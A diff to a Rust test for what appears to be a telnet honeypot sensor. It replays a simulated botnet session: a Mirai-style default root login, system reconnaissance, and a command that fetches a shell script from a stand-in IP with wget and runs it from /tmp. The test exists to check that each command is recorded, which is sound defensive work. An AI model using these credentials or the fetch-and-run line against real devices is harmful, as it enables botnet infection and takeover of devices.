@@ -16,12 +16,13 @@ fn telnet_client_logs_in_and_every_command_is_recorded() {
     let telnet = require("telnet", "telnet");
     let [port] = ports();
     let sensor = RoleProcess::sensor(&bin(), &telnet_any_login("telnet", port, "telnet"));
-    // Debian's telnet reading a script from a pipe, as a person (or a bot) would type it.
+    // Debian's telnet reading a script from a pipe, as a person (or a bot) would type it;
+    // wget takes its time to fail (5 s) before the next line is read.
     let script = format!(
         "(sleep 1; echo root; sleep 0.5; echo xc3511; sleep 0.5; \
           echo 'uname -a; cat /proc/cpuinfo | head -3'; sleep 0.5; \
           echo '/bin/busybox ECCHI'; sleep 0.5; \
-          echo 'cd /tmp && wget http://203.0.113.9/x.sh -O x.sh; sh x.sh'; sleep 0.5; \
+          echo 'cd /tmp && wget http://203.0.113.9/x.sh -O x.sh; sh x.sh'; sleep 6.5; \
           echo exit; sleep 1) | {} 127.0.0.1 {port}",
         telnet.display()
     );
